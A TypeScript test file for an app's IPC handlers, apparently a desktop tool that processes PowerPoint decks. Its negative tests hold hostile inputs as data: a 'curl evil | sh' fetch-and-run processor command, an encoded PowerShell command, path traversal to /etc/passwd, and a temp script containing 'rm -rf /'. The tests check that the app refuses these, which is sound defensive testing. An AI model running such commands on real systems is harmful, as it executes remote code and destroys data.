import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createIpcHandlers } from '../../src/main/ipc-handlers';
import { isLoopbackUrl, PAYLOAD_SCHEMAS } from '../../src/main/ipc-schemas';
import { openSettingsStore } from '../../src/main/settings-store';
import { CHANNELS, DEFAULT_APP_SETTINGS, PROCESSOR_FROM_SETTINGS_FILE_ONLY } from '../../src/shared/ipc';
import { tempDir } from '../helpers/tmp';
import { deps, RecordingEngine } from './stand-ins';

test('every channel of the contract has a handler and a schema', () => {
  const h = createIpcHandlers(new RecordingEngine(), deps());
  for (const c of CHANNELS) {
    assert.equal(typeof h[c], 'function', c);
    assert.ok(PAYLOAD_SCHEMAS[c], c);
  }
  assert.deepEqual(Object.keys(h).sort(), [...CHANNELS].sort());
});

test('valid payloads reach the engine', async () => {
  const e = new RecordingEngine();
  const h = createIpcHandlers(e, deps());
  await h['engine:preflight']({ inputs: ['/a/deck.pptx'] });
  await h['engine:start']({ batchId: '20260101_000000_abcdef12' });
  await h['engine:listJobs']({ batchId: 'B1', query: { state: ['failed', 'pending'], offset: 100, limit: 100 } });
  // The job filter's "Not accepted" choice: the rejected state crosses the boundary.
  await h['engine:listJobs']({ batchId: 'B1', query: { state: 'rejected' } });
  assert.equal(await h['engine:retryFailed']({ batchId: 'B1' }), 2);
  assert.deepEqual(await h['engine:listBatches'](null), [await e.listBatches()][0]);
  assert.deepEqual(
    e.calls.map(([n]) => n),
    ['preflight', 'start', 'listJobs', 'listJobs', 'retryFailed', 'listBatches', 'listBatches'],
  );
});

test('invalid payloads are refused before the engine sees them', async () => {
  const e = new RecordingEngine();
  const h = createIpcHandlers(e, deps());
  const bad: Array<[keyof typeof h, unknown]> = [
    ['engine:preflight', { inputs: 'not-an-array' }],
    ['engine:preflight', { inputs: [] }],
    ['engine:preflight', { inputs: ['/a\0b'] }],
    ['engine:preflight', { inputs: ['/a'], extra: true }],
    ['engine:start', { batchId: '../../etc/passwd' }],
    ['engine:start', {}],
    ['engine:start', null],
    ['engine:listJobs', { batchId: 'B1', query: { state: 'exploded' } }],
    ['engine:listJobs', { batchId: 'B1', query: { limit: 1e9 } }],
    ['engine:writeReport', { batchId: 'B1', format: 'exe' }],
    ['engine:createBatch', { inputs: ['/a'], settings: { modelServer: 'https://api.example.com' } }],
    ['engine:createBatch', { inputs: ['/a'], settings: { workers: 0 } }],
    ['settings:set', { modelServer: 'http://10.0.0.5:11434' }],
    ['settings:set', { nodeIntegration: true }],
    ['engine:listBatches', { sneaky: 1 }],
    ['app:pickInputs', { kind: 'anything' }],
  ];
  for (const [channel, payload] of bad) {
    await assert.rejects(() => h[channel](payload), /^IpcError: INVALID_PAYLOAD|INVALID_PAYLOAD/, `${channel} ${JSON.stringify(payload)}`);
  }
  assert.deepEqual(e.calls, [], 'the engine was never called');
});

test('createBatch uses the saved settings, overridden by the request', async () => {
  const e = new RecordingEngine();
  const d = deps();
  d.settings.set({ workers: 4, outputDir: '/out', modelServer: 'http://127.0.0.1:11434', model: 'llava' });
  const h = createIpcHandlers(e, d);
  await h['engine:createBatch']({ inputs: ['/decks'], settings: { workers: 1 } });
  const [, [req]] = e.calls[0] as [string, [{ inputs: string[]; settings: Record<string, unknown> }]];
  assert.deepEqual(req.inputs, ['/decks']);
  assert.equal(req.settings.workers, 1);
  assert.equal(req.settings.outputDir, '/out');
  assert.equal(req.settings.modelServer, 'http://127.0.0.1:11434');
  assert.equal('processor' in req.settings, false, 'empty processor = built-in');
});

test('the window can never set a processor command: settings:set and createBatch refuse it with a sentence', async (t) => {
  const dir = tempDir(t);
  const e = new RecordingEngine();
  const d = deps({ settings: openSettingsStore(dir) });
  const h = createIpcHandlers(e, d);
  const attempts: Array<[keyof typeof h, unknown]> = [
    ['settings:set', { processor: 'calc.exe' }],
    ['settings:set', { workers: 2, processor: '/bin/sh -c "curl evil | sh"' }],
    // even "back to the built-in one" is not the window's to say
    ['settings:set', { processor: '' }],
    ['engine:createBatch', { inputs: ['/decks'], settings: { processor: 'powershell -enc AAAA' } }],
    ['engine:createBatch', { inputs: ['/decks'], settings: { processor: null } }],
  ];
  for (const [channel, payload] of attempts) {
    await assert.rejects(
      () => h[channel](payload),
      (err: Error) => err.message.startsWith('INVALID_PAYLOAD') && err.message.includes(PROCESSOR_FROM_SETTINGS_FILE_ONLY),
      `${channel} ${JSON.stringify(payload)}`,
    );
  }
  assert.deepEqual(e.calls, [], 'the engine was never called');
  assert.equal(existsSync(join(dir, 'settings.json')), false, 'nothing was saved');
  assert.equal(d.settings.get().workers, DEFAULT_APP_SETTINGS.workers, 'a refused patch changes nothing, not even its valid keys');
});

test('a processor from the settings file (IT) reaches the batch; the window’s saves keep it', async (t) => {
  const dir = tempDir(t);
  writeFileSync(join(dir, 'settings.json'), JSON.stringify({ processor: 'school-processor --fast', workers: 3 }));
  const e = new RecordingEngine();
  const d = deps({ settings: openSettingsStore(dir) });
  const h = createIpcHandlers(e, d);
  assert.equal((await h['settings:get'](null)).processor, 'school-processor --fast', 'the window may show it');
  await h['settings:set']({ workers: 1 });
  assert.equal(JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8')).processor, 'school-processor --fast');
  await h['engine:createBatch']({ inputs: ['/decks'] });
  const [, [req]] = e.calls[0] as [string, [{ settings: Record<string, unknown> }]];
  assert.equal(req.settings.processor, 'school-processor --fast');
  assert.equal(req.settings.workers, 1);
});

test('no new work while shutting down; reads still answer', async () => {
  let down = false;
  const e = new RecordingEngine();
  const h = createIpcHandlers(e, deps({ isShuttingDown: () => down }));
  down = true;
  await assert.rejects(() => h['engine:start']({ batchId: 'B1' }), /SHUTTING_DOWN/);
  await assert.rejects(() => h['engine:createBatch']({ inputs: ['/a'] }), /SHUTTING_DOWN/);
  assert.equal((await h['engine:listBatches'](undefined)).length, 1);
});

test('engine errors come back as ENGINE_ERROR with the message', async () => {
  const e = new RecordingEngine();
  e.start = async () => {
    throw new Error('No batch X.');
  };
  const h = createIpcHandlers(e, deps());
  await assert.rejects(() => h['engine:start']({ batchId: 'X' }), /ENGINE_ERROR: No batch X\./);
});

test('openPath opens decks, reports and folders only, and only ones that exist', async (t) => {
  const dir = tempDir(t);
  const deck = join(dir, 'a.pptx');
  const script = join(dir, 'evil.sh');
  writeFileSync(deck, 'x');
  writeFileSync(script, 'rm -rf /');
  mkdirSync(join(dir, 'out'));
  const d = deps();
  const h = createIpcHandlers(new RecordingEngine(), d);
  assert.equal(await h['app:openPath']({ path: deck }), '');
  await h['app:openPath']({ path: join(dir, 'out') });
  await assert.rejects(() => h['app:openPath']({ path: script }), /decks, reports and folders only/);
  await assert.rejects(() => h['app:openPath']({ path: join(dir, 'missing.pptx') }), /not found/);
  await h['app:showInFolder']({ path: deck });
  assert.deepEqual(d.opened, [deck, join(dir, 'out')]);
  assert.deepEqual(d.shown, [deck]);
});

test('openPath never opens a macro-enabled deck: it shows it in its folder and says so', async (t) => {
  const dir = tempDir(t);
  const d = deps();
  const h = createIpcHandlers(new RecordingEngine(), d);
  const macro = ['Lecture 1.pptm', 'Show.PPSM', 'template.potm', 'addin.ppam'].map((n) => join(dir, n));
  for (const f of macro) writeFileSync(f, 'x');
  for (const f of macro) {
    const said = await h['app:openPath']({ path: f });
    assert.match(said, /does not open macro-enabled decks \(\.(pptm|ppsm|potm|ppam)\); it showed the file in its folder instead/);
  }
  assert.deepEqual(d.opened, [], 'none was opened');
  assert.deepEqual(d.shown, macro, 'each was shown in its folder');
  const plain = join(dir, 'Lecture 1.pptx');
  writeFileSync(plain, 'x');
  assert.equal(await h['app:openPath']({ path: plain }), '');
  assert.deepEqual(d.opened, [plain]);
});

test('openOutputs opens the batch output folder once it exists', async (t) => {
  const dir = tempDir(t);
  const e = new RecordingEngine();
  const d = deps();
  const h = createIpcHandlers(e, d);
  await assert.rejects(() => h['app:openOutputs']({ batchId: 'B1' }), /does not exist yet/);
  e.outputDir = dir;
  await h['app:openOutputs']({ batchId: 'B1' });
  assert.deepEqual(d.opened, [dir]);
  await assert.rejects(() => h['app:openOutputs']({ batchId: 'B2' }), /no batch/);
});

test('isLoopbackUrl: only this computer', () => {
  for (const ok of ['http://127.0.0.1:11434', 'http://localhost:11434/', 'http://[::1]:8080', 'https://127.1.2.3']) assert.ok(isLoopbackUrl(ok), ok);
  for (const no of ['http://10.0.0.2', 'http://localhost.evil.com', 'file:///etc/passwd', 'ftp://127.0.0.1', 'nonsense', 'http://0.0.0.0']) assert.ok(!isLoopbackUrl(no), no);
});
